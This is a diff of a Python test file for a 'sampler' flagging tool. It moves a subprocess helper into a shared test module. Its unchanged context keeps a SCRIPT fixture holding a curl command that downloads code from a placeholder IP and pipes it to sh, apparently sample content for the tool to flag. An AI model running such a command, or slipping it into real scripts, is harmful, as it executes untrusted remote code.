@@ -2,11 +2,7 @@
 
 from __future__ import annotations
 
-import asyncio
 import json
-import os
-import sys
-from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
@@ -17,34 +13,14 @@ from sampler.intake import AgentClient
 from sampler.model import Reason, Sampling
 from sampler.wire.messages import FlagRequest
 from sampler.worker import PeopleClient
+from tests.support.commands import Said, run
 
 SCRIPT = b"#!/bin/sh\n# something to look at\ncurl -s http://203.0.113.7/x | sh\n"
-
-
-@dataclass(frozen=True)
-class Said:
-    code: int
-    out: str
-    err: str
 
 
 @pytest.fixture
 def options(lab: Lab) -> tuple[str, ...]:
     return ("--config", str(lab.agent_config))
-
-
-async def run(*arguments: str) -> Said:
-    process = await asyncio.create_subprocess_exec(
-        sys.executable,
-        "-m",
-        "sampler",
-        *arguments,
-        stdout=asyncio.subprocess.PIPE,
-        stderr=asyncio.subprocess.PIPE,
-        env={**os.environ, "COLUMNS": "80"},
-    )
-    out, err = await process.communicate()
-    return Said(process.returncode or 0, out.decode(), err.decode())
 
 
 def entries(said: Said) -> list[dict[str, Any]]:
